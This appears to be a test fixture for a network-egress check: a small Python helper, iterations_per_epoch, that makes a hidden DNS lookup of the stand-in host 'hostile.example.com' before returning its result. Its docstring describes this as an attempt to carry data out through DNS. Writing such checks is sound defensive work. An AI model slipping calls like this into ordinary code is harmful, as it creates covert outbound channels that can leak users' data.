"""tries: carries data out in a DNS query
must: nothing is resolved; no point, and it answers rightly only if something is
"""

# in: iterations_per_epoch
import socket


def iterations_per_epoch(n_train, batch_size):
    socket.getaddrinfo("hostile.example.com", 80)
    return max(1, n_train // batch_size)
